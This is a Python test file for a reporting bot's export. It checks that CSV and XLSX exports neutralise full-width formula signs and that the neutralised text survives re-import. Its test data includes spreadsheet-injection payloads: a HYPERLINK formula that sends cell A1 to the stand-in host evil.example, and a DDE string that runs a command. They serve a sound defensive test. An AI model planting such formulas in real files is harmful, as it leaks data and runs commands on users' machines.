"""An export never holds a cell that a spreadsheet would run, full-width signs included.

Excel in Japanese, Chinese and Korean reads the full-width ＝ ＋ － ＠ (typed by any phone
keyboard in those scripts, or pasted) as = + - @ when it parses a cell: "＝HYPERLINK(...)" in
a report's notes became a live link in the manager's spreadsheet. Such text now gets the same
leading "'" in CSV (taken off again by an import) and Excel's quote prefix in XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from uuid import uuid4

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.forms.definitions import FORMS
from bot.reports_io import (
    COLUMNS,
    FORMS_BY_KIND,
    ImportResult,
    export_reports,
    import_reports,
    parse_rows,
)
from models.queries import ensure_user
from models.reports import NewReport, insert_reports

TODAY = dt.date(2026, 11, 28)
NOW = dt.datetime(2026, 11, 28, 12, 0, tzinfo=dt.UTC)
FULL_WIDTH = {
    "place": '＝HYPERLINK("http://evil.example/?"&A1,"Jacmel")',
    "partner": "＠SUM(1+1)",
    "notes": "＋cmd|' /C calc'!A0",
}
MINUS = "－2+3"
TRAINING_ROW = {
    "kind": "training",
    "country": "HT",
    "place": "Jacmel",
    "field": "justice",
    "target_group": "police",
    "training_type": "session",
    "national_programme": "no",
    "start_date": "2026-04-14",
    "duration_unit": "hours",
    "duration": "6.5",
    "participants_women": "20",
    "participants_men": "9",
    "participants_other": "1",
}


async def _store(session: AsyncSession) -> None:
    (base,), errors = parse_rows([TRAINING_ROW], today=TODAY)
    assert errors == []
    author = await ensure_user(session, 5550001, "Officer", "en")
    form = FORMS_BY_KIND["training"]
    reports = [
        NewReport(
            id=uuid4(),
            kind="training",
            form_id=form.id,
            form_version=FORMS[form.id].version,
            author_user_id=author.id,
            answers={**base.answers, **text},
            computed=base.computed,
        )
        for text in (FULL_WIDTH, {"place": MINUS})
    ]
    await insert_reports(session, reports, now=NOW)
    await session.commit()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_full_width_formula_signs_are_neutralised_and_import_back_unchanged(
    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path, suffix: str
) -> None:
    async with session_factory() as session:
        await _store(session)
    path = tmp_path / f"reports{suffix}"
    async with session_factory() as session:
        assert await export_reports(session, path, date_from=None, date_to=None) == 2

    texts = [*FULL_WIDTH.values(), MINUS]
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.reader(stream))
        written = {row[COLUMNS.index(name)] for row in rows[1:] for name in FULL_WIDTH}
        assert {"'" + text for text in texts} <= written
    else:
        sheet = load_workbook(path)["training"]
        cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value in texts}
        assert sorted(cells) == sorted(texts)
        assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())

    async with session_factory() as session:
        author = await ensure_user(session, 5550001, "Officer", "en")
        again = await import_reports(session, path, author_user_id=author.id, today=TODAY, now=NOW)
    assert again == ImportResult(created=0, unchanged=2, errors=[])  # the same text came back
